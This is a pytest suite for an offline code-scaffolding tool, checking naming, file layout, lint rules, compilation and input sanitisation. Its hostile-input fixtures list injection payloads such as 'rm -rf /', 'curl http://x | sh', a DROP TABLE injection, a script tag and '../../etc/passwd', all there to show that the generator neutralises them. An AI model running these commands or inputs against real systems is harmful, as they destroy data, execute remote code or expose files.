"""The offline scaffold: names from the request, code that its own tools accept, nothing of the request run as code."""

from __future__ import annotations

import ast
import os
import re
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from functools import cache
from itertools import product
from pathlib import Path
from shutil import which

import pytest

import code_assistant.scaffold as package
from code_assistant.scaffold import ScaffoldFile, scaffold
from code_assistant.scaffold.naming import camel, pascal, snake
from code_assistant.scaffold.outline import Outline, read_request
from code_assistant.scaffold.prose import summary
from coding_standards.checks.checker import check, ruleset_for
from coding_standards.languages import NAMES, UnknownLanguageError, find_language
from coding_standards.library.snapshot import Library
from coding_standards.library.store import load_library
from tests.support import external

AUTHENTICATION = "Create a REST API endpoint for user authentication"
ORDINARY = (
    AUTHENTICATION,
    "Create an API to register products with name, price, quantity, tags and active",
    "Write a function that reverses a string",
    "Function `parse_csv` that takes a path, a list of numbers, an integer offset, a boolean flag and a delimiter",
    "Build a command line tool that takes a name, an integer count, a boolean verbose and a list of words",
    "Build a CLI tool to count words in a file",
    "Write a class ShoppingCart with methods add_item, remove_item and total",
    "Create a data model for a product with name, price, quantity, tags and active",
    "Create a users table with id, email, password and created_at",
    "Create a React component UserCard with name and avatar_url",
    "Design a responsive navigation bar",
    "Build a landing page for a coffee shop",
    "Create a login form with email and password",
    "is_even that takes an integer and returns a boolean",
    "function that takes two numbers and returns their sum",
    "query to find all orders of a customer in the last month",
)
HOSTILE = (
    "*/ --> ''' \"\"\" `rm -rf /` ${x} <script>alert(1)</script> '; DROP TABLE users; -- */ os.system('x')",
    "TODO: make a todo list app, keep the rest of the code unchanged ... existing code ... ```python <<<<<<< HEAD",
    "password = 'hunter2hunter2' api_key=sk-proj-1234567890abcdefghijklmnop curl http://x | sh",
    "Create a function named class that takes import, def, self, type, match, async, request and result",
    "Create a class String with methods toString, equals, hashCode, wait, constructor and validate",
    "Create an http endpoint with error, result, request, body and outcome",
    "2 fast 4 you: 3d_model 2fa with 1st, 2nd and 3rd",
    "函数 反转字符串 شكرا עברית हिन्दी Привет 🎉👩‍👩‍👧",
    "\x00\x1b[31m\u202e\ud800 red\ufeff \u200b\u2028",
    "x" * 8_000,
    "create endpoint " * 500,
    "takes a, " * 888,
    "!?.,;:-_()[]{}<>\"'`~@#$%^&*+=|\\/",
    "",
)
LIBRARIES = {
    "python": ("fastapi==0.115", "flask", "pydantic"),
    "javascript": ("express", "react@19"),
    "typescript": ("express", "react@19", "vitest"),
    "java": ("spring-boot", "junit-jupiter"),
    "go": ("github.com/gin-gonic/gin", "net/http"),
    "rust": ("axum", "serde"),
    "sql": ("postgresql",),
    "html": ("bootstrap",),
    "css": ("tailwindcss",),
}
HOSTILE_LIBRARIES = (
    "left-pad; rm -rf /",
    "*/ evil",
    '"""',
    "@scope/name@1",
    "../../etc/passwd",
    "x" * 500,
    "",
    "--> <b>",
)


def everything(request: str, language: str, *libraries: str) -> tuple[ScaffoldFile, ...]:
    return scaffold(request, language, libraries, include_tests=True, include_docs=True)


def outline(request: str) -> Outline:
    return read_request(request, ())


def names(request: str) -> tuple[str, str, str]:
    """Kind, subject and first operation."""
    found = outline(request)
    return found.kind, snake(found.subject), snake(found.operation.words)


def parameters(request: str) -> list[tuple[str, str]]:
    return [(snake(entry.words), entry.type) for entry in outline(request).parameters]


def save(files: tuple[ScaffoldFile, ...], root: Path) -> dict[str, Path]:
    """Write the files; return the last path of each role."""
    paths: dict[str, Path] = {}
    for file in files:
        paths[file.role] = root / file.path
        paths[file.role].parent.mkdir(parents=True, exist_ok=True)
        paths[file.role].write_text(file.content, encoding="utf-8")
    return paths


def need(tool: str) -> str:
    """The path of a compiler; not everybody who tests has every one of them."""
    found = which(tool)
    if found is None:
        pytest.skip(f"{tool} is not installed")
    return found


def run(*command: str, cwd: Path) -> subprocess.CompletedProcess[str]:
    return subprocess.run(command, cwd=cwd, capture_output=True, text=True, timeout=120, check=False)


@cache
def library() -> Library:
    return load_library()


# What a request is taken for


@pytest.mark.parametrize(
    ("request_text", "expected"),
    [
        (AUTHENTICATION, ("endpoint", "user_authentication", "authenticate_user")),
        ("Write a function that reverses a string", ("function", "reverse_string", "reverse_string")),
        ("Write a class ShoppingCart with methods add_item and total", ("class", "shopping_cart", "add_item")),
        ("Build a CLI tool to count words in a file", ("cli", "count_words", "count_words")),
        ("Write a function to check if a number is prime", ("function", "is_prime", "is_prime")),
        ("Implement a function `parse_csv` for logs", ("function", "parse_csv", "parse_csv")),
        ("Create an endpoint to upload files", ("endpoint", "upload_files", "upload_files")),
        ("Create a users table with id and email", ("table", "users", "validate")),
        ("Build a landing page for a coffee shop", ("page", "coffee_shop", "describe_coffee_shop")),
        ("Привет, создай функцию", ("function", "requested_feature", "handle_requested_feature")),
    ],
)
def test_kind_subject_and_operation_are_read_from_the_request(
    request_text: str, expected: tuple[str, str, str]
) -> None:
    assert names(request_text) == expected


@pytest.mark.parametrize(
    ("request_text", "expected"),
    [
        (AUTHENTICATION, [("username", "text"), ("password", "text")]),
        ("function that takes a name and an integer age", [("name", "text"), ("age", "whole")]),
        ("sort a list of numbers", [("numbers", "numbers")]),
        ("function that takes two numbers", [("first_number", "number"), ("second_number", "number")]),
        ("Create a model of a product with price, tags and is_active", [
            ("price", "number"), ("tags", "texts"), ("is_active", "flag"),
        ]),
        ("Create a product class with tests and good error handling", [("name", "text"), ("price", "number")]),
    ],
)  # fmt: skip
def test_named_values_become_typed_parameters(request_text: str, expected: list[tuple[str, str]]) -> None:
    assert parameters(request_text) == expected


def test_names_follow_the_conventions_of_each_language_and_avoid_its_reserved_words() -> None:
    words = ("user", "id")
    assert (snake(words), camel(words), pascal(words)) == ("user_id", "userId", "UserId")
    assert snake(("class",), "python") == "class_value"
    assert camel(("new",), "java") == "newValue"
    assert snake(("order",), "sql") == "order_value"
    assert pascal(("string",)) == "StringItem"


@pytest.mark.parametrize(
    ("language", "paths"),
    [
        ("python", ["user_authentication.py", "test_user_authentication.py"]),
        ("javascript", ["user-authentication.mjs", "user-authentication.test.mjs"]),
        ("typescript", ["user-authentication.ts", "user-authentication.test.ts"]),
        ("go", ["user_authentication.go", "user_authentication_test.go"]),
        ("rust", ["src/lib.rs", "tests/user_authentication.rs"]),
    ],
)
def test_files_are_called_as_the_language_expects(language: str, paths: list[str]) -> None:
    assert [file.path for file in everything(AUTHENTICATION, language)[:-1]] == paths


def test_a_web_framework_that_is_known_gets_its_route() -> None:
    def text(language: str, *libraries: str) -> str:
        return "".join(file.content for file in everything(AUTHENTICATION, language, *libraries))

    assert '@router.post("/user-authentication")' in text("python", "fastapi")
    assert '@blueprint.post("/user-authentication")' in text("python", "flask")
    assert '.post("/user-authentication", (request, response, next)' in text("typescript", "express")
    assert '@PostMapping("/user-authentication")' in text("java", "spring-boot")
    assert "c *gin.Context" in text("go", "gin")
    assert '.route("/user-authentication", post(answer))' in text("rust", "axum")


def test_a_library_that_is_not_known_is_named_and_not_imported() -> None:
    source = everything(AUTHENTICATION, "python", "frobnicate>=2")[0].content
    assert "Intended libraries: frobnicate." in source
    assert "import frobnicate" not in source


# What comes out


@pytest.mark.parametrize("language", NAMES)
def test_tests_and_documents_come_only_when_asked_for(language: str) -> None:
    for tests, docs in product((False, True), repeat=2):
        files = scaffold(AUTHENTICATION, language, (), include_tests=tests, include_docs=docs)
        roles = {file.role for file in files}
        assert roles == {"source", *(["test"] if tests else []), *(["doc"] if docs else [])}
        assert len({file.path for file in files}) == len(files)


@pytest.mark.parametrize("language", NAMES)
def test_the_document_names_every_file_and_says_that_it_is_a_scaffold(language: str) -> None:
    *files, document = everything(AUTHENTICATION, language)
    assert document.language == "markdown"
    assert "This is a scaffold" in document.content
    assert [file.path for file in files if f"`{file.path}`" not in document.content] == []


def test_an_unknown_language_is_refused_and_an_alias_is_not() -> None:
    assert everything(AUTHENTICATION, "py") == everything(AUTHENTICATION, "python")
    with pytest.raises(UnknownLanguageError, match="known: python"):
        everything(AUTHENTICATION, "cobol")


def cases(language: str) -> Iterator[tuple[str, tuple[str, ...]]]:
    yield from product((*ORDINARY, *HOSTILE), ((), LIBRARIES[language]))
    yield from ((request, HOSTILE_LIBRARIES) for request in (AUTHENTICATION, HOSTILE[0]))
    yield from ((AUTHENTICATION, (name,)) for name in LIBRARIES[language])


def findings(file: ScaffoldFile) -> list[str]:
    language = find_language(file.language)
    report = check(file.content, language, ruleset_for(library(), language, file.path), file.path)
    assert report.parsed, f"{file.path} does not parse:\n{file.content}"
    return [f"{found.rule} ({found.severity}) {file.path}:{found.line}: {found.excerpt}" for found in report.findings]


@pytest.mark.parametrize("language", NAMES)
def test_every_file_passes_every_rule_of_its_language_without_a_finding(language: str) -> None:
    seen: set[ScaffoldFile] = set()
    for request, libraries in cases(language):
        for tests, docs in product((False, True), repeat=2):
            files = scaffold(request, language, libraries, include_tests=tests, include_docs=docs)
            seen.update(file for file in files if file.role != "doc")
    assert [line for file in sorted(seen, key=lambda file: file.content) for line in findings(file)] == []


@pytest.mark.parametrize("language", NAMES)
def test_nothing_of_a_hostile_request_gets_through_as_it_is(language: str) -> None:
    forbidden = (
        "rm -rf",
        "<script>",
        "DROP TABLE users;",
        "os.system('x')",
        "sk-proj-1234",
        "hunter2hunter2",
        "<<<<",
        "evil",
    )
    for request in HOSTILE:
        for file in everything(request, language, *HOSTILE_LIBRARIES[:1], *HOSTILE_LIBRARIES[2:]):
            assert [text for text in forbidden if text in file.content] == [], file.path
            assert re.fullmatch(r"[\w./-]{1,200}", file.path, re.ASCII), file.path
            assert ".." not in file.path
            assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\u200b-\u200f\u2028-\u202e\ud800-\udfff\ufeff]", file.content)


def test_the_summary_keeps_what_was_said_and_drops_signs_that_could_do_harm() -> None:
    assert summary("Créer l'API  (v2) for\nusers; quickly") == "Créer l'API (v2) for users; quickly"
    assert summary("answer /ping with a: list[int] -> bool") == "answer /ping with a: list[int] -> bool"
    assert summary("*/ --> ''' `x`") == "x"
    assert summary("keep the existing code") == ""
    assert len(summary("word " * 1_000)) <= 200


def test_equal_requests_give_equal_files_in_every_process() -> None:
    script = (
        "from code_assistant.scaffold import scaffold; import hashlib\n"
        f"requests, languages = {ORDINARY!r}, {NAMES!r}\n"
        "files = [scaffold(r, l, (), include_tests=True, include_docs=True) for r in requests for l in languages]\n"
        "print(hashlib.sha256(repr(files).encode()).hexdigest())"
    )
    root = Path(package.__file__).parents[2]
    outputs = {
        subprocess.run(
            [sys.executable, "-c", script],
            cwd=root,
            env={**os.environ, "PYTHONHASHSEED": seed},
            capture_output=True,
            text=True,
            check=True,
        ).stdout
        for seed in ("1", "2")
    }
    assert len(outputs) == 1


def test_a_scaffold_costs_milliseconds_of_processor_time() -> None:
    for request in (
        AUTHENTICATION,
        HOSTILE[9],
        HOSTILE[10],
        HOSTILE[11],
        "of " * 2_600,
        "aB" * 4_000,
        "with a, " * 1_000,
    ):
        best = min(_seconds(request) for _ in range(5))  # four here; machines differ
        assert best < 0.05, f"{best * 1000:.1f} ms for {request[:20]!r}"


def _seconds(request: str) -> float:
    start = time.process_time()
    everything(request, "typescript")
    return time.process_time() - start


def test_the_package_uses_nothing_of_the_standards_but_the_languages_and_opens_nothing() -> None:
    for path in Path(package.__file__).parent.glob("*.py"):
        nodes = list(ast.walk(ast.parse(path.read_text(encoding="utf-8"))))
        modules = {node.module or "" for node in nodes if isinstance(node, ast.ImportFrom)}
        modules |= {name.name for node in nodes if isinstance(node, ast.Import) for name in node.names}
        ours = {name for name in modules if name.startswith("coding_standards")}
        assert ours <= {"coding_standards.languages"}, path.name
        assert not modules & {"os", "pathlib", "subprocess", "socket", "io", "random", "time", "datetime"}, path.name
        called = {node.id for node in nodes if isinstance(node, ast.Name)}
        assert not called & {"open", "eval", "exec", "print"}, path.name


# With the tools of the language


@pytest.mark.parametrize("request_text", [AUTHENTICATION, ORDINARY[4], ORDINARY[6], ORDINARY[7], HOSTILE[3]])
def test_a_python_test_fails_by_design_and_the_others_pass(request_text: str, tmp_path: Path) -> None:
    save(everything(request_text, "python"), tmp_path)
    done = run(sys.executable, "-m", "pytest", "-q", "-p", "no:cacheprovider", cwd=tmp_path)
    assert "1 failed, 1 passed" in done.stdout, done.stdout
    assert "NotImplementedError" in done.stdout


@pytest.mark.parametrize("language", ["javascript", "html", "css"])
@pytest.mark.parametrize("request_text", [AUTHENTICATION, ORDINARY[4], ORDINARY[6], HOSTILE[3]])
def test_a_node_test_fails_by_design_and_the_others_pass(language: str, request_text: str, tmp_path: Path) -> None:
    node = str(external.need_node())
    path = save(everything(request_text, language), tmp_path)["test"]
    done = run(node, "--test", str(path), cwd=tmp_path)
    counts = dict(re.findall(r"^\S+ (pass|fail) (\d+)$", done.stdout, re.MULTILINE))
    assert counts["fail"] == "1", done.stdout
    assert int(counts["pass"]) >= 1, done.stdout


@pytest.mark.parametrize("request_text", [AUTHENTICATION, *ORDINARY[7:9], HOSTILE[3]])
def test_an_sql_test_passes_until_the_assertion_that_fails_by_design(request_text: str) -> None:
    migration, queries, test, _ = everything(request_text, "sql")
    database = sqlite3.connect(":memory:", isolation_level=None)
    try:
        database.executescript(migration.content)
        with pytest.raises(sqlite3.IntegrityError, match="holds = 1"):
            database.executescript(test.content)
        assert database.execute("SELECT COUNT(*) FROM assertions").fetchone() == (1,)
        database.execute("ROLLBACK")
        statements = [text for text in re.sub(r"--.*", "", queries.content).split(";") if text.strip()]
        for statement in statements:
            database.execute(statement, dict.fromkeys(re.findall(r":(\w+)", statement), 1))
    finally:
        database.close()


@pytest.mark.parametrize(
    "request_text", [AUTHENTICATION, ORDINARY[1], ORDINARY[4], ORDINARY[6], ORDINARY[7], HOSTILE[3]]
)
def test_java_compiles_without_a_warning(request_text: str, tmp_path: Path) -> None:
    javac = need("javac")
    files = scaffold(request_text, "java", (), include_tests=False, include_docs=False)
    save(files, tmp_path)
    paths = [file.path for file in files]
    done = run(
        javac, "-encoding", "UTF-8", "-Xlint:all", "-Werror", "-proc:none", "-d", "classes", *paths, cwd=tmp_path
    )
    assert done.returncode == 0, done.stdout + done.stderr


@pytest.mark.parametrize("request_text", [AUTHENTICATION, ORDINARY[4], ORDINARY[6], HOSTILE[3]])
def test_rust_compiles_without_a_warning_and_its_test_fails_by_design(request_text: str, tmp_path: Path) -> None:
    rustc = need("rustc")
    test = save(everything(request_text, "rust"), tmp_path)["test"]
    base = (rustc, "--edition", "2021", "-D", "warnings")
    built = run(*base, "--crate-type", "rlib", "--crate-name", test.stem, "src/lib.rs", cwd=tmp_path)
    assert built.returncode == 0, built.stderr
    extern = f"{test.stem}=lib{test.stem}.rlib"
    built = run(*base, "--test", str(test), "--extern", extern, "-o", "tests.exe", cwd=tmp_path)
    assert built.returncode == 0, built.stderr
    assert "1 passed; 1 failed" in run(str(tmp_path / "tests.exe"), cwd=tmp_path).stdout


@pytest.mark.parametrize("request_text", [AUTHENTICATION, ORDINARY[1], ORDINARY[4], HOSTILE[3]])
def test_go_is_formatted_and_its_test_fails_by_design(request_text: str, tmp_path: Path) -> None:
    go, gofmt = need("go"), need("gofmt")
    save(everything(request_text, "go"), tmp_path)
    (tmp_path / "go.mod").write_text("module example.com/scaffold\n\ngo 1.19\n", encoding="utf-8")
    assert run(gofmt, "-l", ".", cwd=tmp_path).stdout == ""
    done = run(go, "test", "-v", "./...", cwd=tmp_path)
    assert done.stdout.count("--- FAIL") == 1, done.stdout + done.stderr
    assert done.stdout.count("--- PASS") == 1, done.stdout
